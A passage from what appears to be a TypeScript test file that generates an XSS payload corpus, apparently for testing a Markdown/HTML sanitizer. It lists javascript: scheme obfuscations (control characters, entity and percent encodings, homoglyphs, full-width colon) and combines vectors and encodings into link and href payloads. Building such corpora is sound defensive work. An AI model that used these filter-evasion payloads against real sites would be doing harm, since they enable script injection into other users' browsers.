];

/** URL-scheme obfuscations, in a Markdown link and in an HTML href. */
const SCHEME_OBFUSCATIONS: Wrapper[] = [
  { name: 'tab inside', wrap: (js) => `java\tscript:${js}` },
  { name: 'newline inside', wrap: (js) => `java\nscript:${js}` },
  { name: 'carriage return inside', wrap: (js) => `java\rscript:${js}` },
  { name: 'encoded tab inside', wrap: (js) => `java&#x09;script:${js}` },
  { name: 'encoded newline inside', wrap: (js) => `java&#10;script:${js}` },
  { name: 'null byte inside', wrap: (js) => `java\u0000script:${js}` },
  { name: 'zero-width space inside', wrap: (js) => `java\u200Bscript:${js}` },
  { name: 'leading control character', wrap: (js) => `\u0001javascript:${js}` },
  { name: 'leading form feed', wrap: (js) => `\fjavascript:${js}` },
  { name: 'percent-encoded tab', wrap: (js) => `java%09script:${js}` },
  { name: 'percent-encoded scheme', wrap: (js) => `%6A%61%76%61%73%63%72%69%70%74:${js}` },
  { name: 'full-width colon', wrap: (js) => `javascript\uFF1A${js}` },
  { name: 'Cyrillic a', wrap: (js) => `j\u0430vascript:${js}` },
  { name: 'decimal entity scheme', wrap: (js) => `${entities('javascript:', (code) => `&#${code};`)}${js}` },
  { name: 'hex entity scheme', wrap: (js) => `${entities('javascript:', (code) => `&#x${code.toString(16)};`)}${js}` },
  { name: 'upper case', wrap: (js) => `JAVASCRIPT:${js}` },
  { name: 'live script', wrap: (js) => `livescript:${js}` },
  { name: 'double scheme', wrap: (js) => `javascript:javascript:${js}` },
];

function build(): XssCorpusEntry[] {
  const entries: XssCorpusEntry[] = [];
  let uses = 0;
  const add = (category: XssCategory, name: string, source: string) => {
    entries.push({ category, name, source });
  };

  // The 20 attacks the suite had before the corpus, first and unchanged.
  for (const payload of XSS_PAYLOADS) add(legacyCategory(payload.source), payload.name, payload.source);

  for (const vector of [...HTML_VECTORS, ...MARKDOWN_VECTORS, ...LATEX_VECTORS, ...TEMPLATE_VECTORS]) {
    const count = vector.variants ?? 1;
    for (let variant = 0; variant < count; variant++) {
      const js = act(uses++);
      add(vector.category, count > 1 ? `${vector.name} (${js})` : vector.name, vector.make(js));
    }
  }

  for (const [index, base] of ENCODED_BASES.entries()) {
    for (const [offset, encoding] of ENCODINGS.entries()) {
      // Each encoding on two of the bases, so every base meets most encodings without multiplying the corpus.
      if ((index + offset) % ENCODED_BASES.length > 1) continue;
      add('encoding', `${encoding.name}: ${base}`, encoding.wrap(base));
    }
  }

  for (const obfuscation of SCHEME_OBFUSCATIONS) {
    const js = act(uses++);
    add('encoding', `Markdown link, scheme with ${obfuscation.name}`, `[x](${obfuscation.wrap(js)})`);
    add('encoding', `HTML href, scheme with ${obfuscation.name}`, `<a href="${obfuscation.wrap(js)}">x</a>`);
  }

  return unique(entries);
}

/** A category for the legacy payloads, from their shape. */
function legacyCategory(source: string): XssCategory {
  if (source.includes('$')) return 'latex';
  if (source.includes('<math')) return 'mathml';
  if (/^\[|^!\[|^```|^<javascript:/.test(source)) return 'markdown';
  if (source.includes('<svg')) return 'svg';
  if (source.includes('javascript:')) return 'javascript-url';
  if (/ on\w+=/.test(source)) return 'event-handler';
  return 'script';
}

/** Drops repeated sources (two vectors can meet) and numbers repeated names. */
function unique(entries: XssCorpusEntry[]): XssCorpusEntry[] {
  const sources = new Set<string>();
  const names = new Map<string, number>();
  const result: XssCorpusEntry[] = [];
  for (const entry of entries) {
    if (sources.has(entry.source)) continue;
    sources.add(entry.source);
    const seen = names.get(entry.name) ?? 0;
    names.set(entry.name, seen + 1);
    result.push(seen === 0 ? entry : { ...entry, name: `${entry.name} #${seen + 1}` });
  }
  return result;
}

/** Every payload, each source distinct. */
export const XSS_CORPUS: readonly XssCorpusEntry[] = build();

/** The categories the issue names; the corpus must cover each. */
export const REQUIRED_CATEGORIES: readonly XssCategory[] = [
  'script',
  'event-handler',
  'javascript-url',
  'data-url',
  'svg',
  'mathml',
  'markdown',
  'latex',
  'encoding',
];
